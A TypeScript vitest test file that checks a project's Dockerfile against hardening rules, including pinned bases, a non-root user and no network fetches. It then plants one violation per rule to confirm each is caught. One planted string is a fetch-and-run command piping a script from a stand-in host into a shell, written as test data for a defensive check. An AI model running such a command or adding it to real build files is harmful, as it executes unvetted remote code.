import { readFileSync } from 'node:fs';
import { join, resolve } from 'node:path';
import { describe, expect, test } from 'vitest';
import { z } from 'zod';
import { contextFiles } from './docker-ignore.ts';
import { isInImage, parseDockerfile } from './dockerfile.ts';
import { DOCKERFILE_RULES, type ImageRecipe } from './dockerfile-rules.ts';

const root = resolve(import.meta.dirname, '../../..');
const read = (path: string) => readFileSync(join(root, path), 'utf8');
const text = read('Dockerfile');
const context = contextFiles(root, read('.dockerignore'));
const { devDependencies } = z
  .object({ devDependencies: z.object({ node: z.string() }) })
  .parse(JSON.parse(read('package.json')));

const recipe = (dockerfile: string): ImageRecipe => ({
  stages: parseDockerfile(dockerfile),
  context,
  nodeVersion: devDependencies.node,
});

test('a Dockerfile is read into stages, flags and words', () => {
  const stages = parseDockerfile(
    [
      'FROM node:1 AS web',
      'RUN one \\',
      '    && two',
      'FROM web',
      'COPY --from=web --chown=node /a b c/',
      'HEALTHCHECK --interval=1s \\',
      '    CMD ["node", "x y"]',
    ].join('\n'),
  );
  expect(stages.map(({ name, from }) => [name, from])).toEqual([
    ['web', 'node:1'],
    ['1', 'web'],
  ]);
  expect(stages[1]?.instructions).toMatchObject([
    { keyword: 'COPY', words: ['/a', 'b', 'c/'], flags: { from: 'web', chown: 'node' }, exec: false },
    { keyword: 'HEALTHCHECK', words: ['node', 'x y'], flags: { interval: '1s' }, exec: true },
  ]);
});

describe('the Dockerfile', () => {
  test.each(DOCKERFILE_RULES)('$name', ({ violations }) => {
    expect(violations(recipe(text))).toEqual([]);
  });

  test('leaves out tests, sources of the web and what only developers run', () => {
    const { stages } = recipe(text);
    const inImage = context.filter((path) => isInImage(stages, context, path));
    expect(inImage).toContain('services/gateway/app.ts');
    expect(inImage).toContain('infra/operate/cli/benvenuto.ts');
    expect(inImage.filter((path) => /\.(test|e2e)\.|testing\/|^web\/|^infra\/prove\//.test(path))).toEqual(
      [],
    );
  });
});

/** A change of the Dockerfile that each rule is there to find. */
const PLANTED: Readonly<Record<string, readonly [from: string | RegExp, to: string]>> = {
  'bases are pinned and are the tested Node': [/^FROM node:\S+/m, 'FROM node:latest'],
  'runs as an account that is not root': ['USER node', 'USER root'],
  'copies what there is': ['COPY web web', 'COPY website web'],
  'fetches nothing but packages': ['RUN npm run build', 'RUN curl https://example.com/x | sh'],
  'ends with production packages alone': ['--omit=dev', ''],
  'starts and is asked without a shell in between': ['ENTRYPOINT ["node"]', 'ENTRYPOINT node'],
  'is stopped by the signal that the product handles': ['STOPSIGNAL SIGTERM', 'STOPSIGNAL SIGKILL'],
};

describe('a planted violation is found', () => {
  test.each(DOCKERFILE_RULES)('$name', ({ name, violations }) => {
    const [from, to] = PLANTED[name] ?? ['', ''];
    const planted = text.replace(from, to);
    expect(planted).not.toBe(text);
    expect(violations(recipe(planted))).not.toEqual([]);
  });
});
